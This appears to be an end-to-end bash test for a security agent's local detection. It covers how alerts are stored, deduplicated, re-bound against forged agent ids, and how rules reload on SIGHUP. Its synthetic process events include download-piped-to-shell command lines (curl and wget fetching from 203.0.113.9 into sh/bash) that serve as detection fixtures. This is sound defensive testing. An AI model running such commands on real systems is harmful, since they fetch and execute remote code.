#!/usr/bin/env bash
# Local detection on the agent: with no rules on the server the agent's own alerts arrive and are
# stored, bound to the sending agent; with the same rules on both sides each alert is stored once
# (same id from agent and server). Alerts claiming another agent id are re-bound.
. "$(dirname "$0")/lib/common.bash"
. "$(dirname "$0")/lib/stack.bash"

D=$MAMORI_TEST_DATA/e2e_detect
gen() { # gen FILE SEQ_BASE HOUR
  python3 - "$1" "$2" "$3" <<'PY'
import json, sys
path, base, hour = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
with open(path, "w") as out:
    for i, (cmd, name) in enumerate([("curl -s http://203.0.113.9/x.sh | sh", "curl"), ("ls -la", "ls"),
                                     ("wget -q -O- http://203.0.113.9/y | bash", "wget")]):
        e = {"@timestamp": "2026-11-21T%02d:00:%02d.000000000Z" % (hour, i),
             "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
             "host": {"name": "ad1"},
             "process": {"pid": 10 + i, "entity_id": "a%08d" % (base + i), "executable": "/usr/bin/" + name,
                         "name": name, "command_line": cmd}}
        out.write(json.dumps(e) + "\n")
PY
}

# 1. Only the agent has rules.
start_server
enroll_agent "$WORK/agent" ad1
gen "$WORK/one.jsonl" 100 8
start_agent "$WORK/agent" --replay "$WORK/one.jsonl" --drain 20 --rules "$D/rules.yml" --iocs "$D/iocs.txt"
wait $AGENT_PID || fail "agent exited with $?"
WAIT_S=20 wait_for sh -c "[ \$(\"$CLI\" alerts list --since 1h --output jsonl | wc -l) -ge 2 ]" ||
  fail "agent alerts not stored: $(tail -5 "$WORK/agent.log")"
"$CLI" alerts list --since 1h --output jsonl >"$WORK/a1.jsonl"
agent_id=$("$CLI" hosts show ad1 --output jsonl | python3 -c 'import json,sys; print(json.load(sys.stdin)["agent"]["id"])')
python3 - "$WORK/a1.jsonl" "$agent_id" <<'PY' || fail "agent alerts: $(cat "$WORK/a1.jsonl")"
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
assert len(a) == 2, len(a)
for x in a:
    assert x["mamori"]["detected_by"] == "agent" and x["agent"]["id"] == sys.argv[2], x
    assert x["rule"]["name"] == "Download piped to a shell" and x["process"]["entity_id"] in ("a00000100", "a00000102")
PY
[ "$(count 'event.kind:alert')" = 0 ] || fail "agent alerts stored among events"
[ "$(count 'host.name:ad1')" = 3 ] || fail "events not stored: $(count 'host.name:ad1')"
# Heartbeats reach the store within the server's 5 s flush.
WAIT_S=15 wait_for sh -c "\"$CLI\" hosts show ad1 --output jsonl | grep -q content_version" || true
"$CLI" hosts show ad1 --output jsonl | python3 -c '
import json, sys
d = json.load(sys.stdin)["health"]["detection"]
assert len(d["content_version"]) == 16 and d["rules"] == 3 and d["alerts"] >= 0, d' ||
  fail "heartbeat lacks the detection content: $("$CLI" hosts show ad1 --output jsonl)"
echo "ok: alerts raised by the agent are stored and bound to it; heartbeats carry the content version"

# 2. Both sides detect: each alert once.
stop_server
start_server --rules "$D/rules.yml"
gen "$WORK/two.jsonl" 200 9
start_agent "$WORK/agent" --replay "$WORK/two.jsonl" --drain 20 --rules "$D/rules.yml"
wait $AGENT_PID || fail "agent exited with $?"
WAIT_S=20 wait_for sh -c "[ \$(\"$CLI\" alerts list --since 1h --output jsonl | wc -l) -ge 4 ]" ||
  fail "alerts of the second run missing"
sleep 1
"$CLI" alerts list --since 1h --output jsonl >"$WORK/a2.jsonl"
python3 - "$WORK/a2.jsonl" <<'PY' || fail "dedup: $(cat "$WORK/a2.jsonl")"
import json, sys, collections
a = [json.loads(l) for l in open(sys.argv[1])]
c = collections.Counter(x["process"]["entity_id"] for x in a)
assert len(a) == 4 and all(v == 1 for v in c.values()), c
PY
echo "ok: the same alert from agent and server is stored once"

# 3. A hostile agent cannot forge another agent's alert or store a malformed one.
python3 - "$WORK/forged.jsonl" <<'PY'
import json, sys
good = {"@timestamp": "2026-11-21T10:00:00Z", "event": {"kind": "alert", "id": "f" * 32, "created": "2026-11-21T10:00:01Z"},
        "rule": {"id": "forged", "name": "forged", "severity": "critical"}, "risk_score": 99,
        "agent": {"id": "0" * 32}, "host": {"name": "ad1"}, "mamori": {}}
bad = dict(good, event={"kind": "alert", "id": "nothex", "created": "2026-11-21T10:00:01Z"})
with open(sys.argv[1], "w") as f:
    f.write(json.dumps(good) + "\n" + json.dumps(bad) + "\n")
PY
code=$(curl -s -o "$WORK/resp" -w '%{http_code}' --cacert "$SDATA/ca.crt" --cert "$WORK/agent/agent.crt" \
  --key "$WORK/agent/agent.key" -X POST -H "X-Mamori-Epoch: 00000000000000bb" -H "X-Mamori-Seq: 1" \
  --data-binary @"$WORK/forged.jsonl" "$MAMORI_URL/v1/events")
[ "$code" = 200 ] || fail "batch with alerts: $code $(cat "$WORK/resp")"
grep -q '"rejected":1' "$WORK/resp" || fail "malformed alert not rejected: $(cat "$WORK/resp")"
WAIT_S=20 wait_for sh -c "\"$CLI\" alerts list --since 1h --rule forged --output jsonl | grep -q forged" ||
  fail "well-formed agent alert not stored"
"$CLI" alerts list --since 1h --rule forged --output jsonl | python3 -c '
import json, sys
a = [json.loads(l) for l in sys.stdin]
assert len(a) == 1 and a[0]["agent"]["id"] == sys.argv[1], a' "$agent_id" || fail "forged agent id kept"
echo "ok: agent alerts are re-bound to the sender; malformed ones rejected"

# 4. SIGHUP reloads the agent's rules and indicators without a restart.
stop_server
start_server
mkdir -p "$WORK/arules"
cp "$D/rules.yml" "$WORK/arules/"
mkfifo "$WORK/feed"
exec 7<>"$WORK/feed"
start_agent "$WORK/agent" --replay "$WORK/feed" --rules "$WORK/arules"
sleep 1
cat >"$WORK/arules/new.yml" <<'YML'
title: Reloaded rule
id: 7d1f6c2e-0d7e-4d55-9a51-2f3f1c7e0b01
level: high
logsource: {product: linux, category: process_creation}
detection:
    selection: {CommandLine: 'mamori-reload-marker'}
    condition: selection
YML
kill -HUP "$AGENT_PID"
WAIT_S=10 wait_for grep -q "detection content reloaded" "$WORK/agent.log" || fail "agent did not reload"
python3 -c '
import json
print(json.dumps({"@timestamp": "2026-11-21T14:00:00Z", "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
    "host": {"name": "ad1"}, "process": {"pid": 5, "entity_id": "r1", "executable": "/usr/bin/x", "name": "x", "command_line": "mamori-reload-marker"}}))' >&7
WAIT_S=20 wait_for sh -c "\"$CLI\" alerts list --since 1h --rule 'Reloaded rule' --output jsonl | grep -q r1" ||
  fail "rule added by SIGHUP did not fire"
exec 7>&-
echo "ok: SIGHUP reloads the agent's rules"
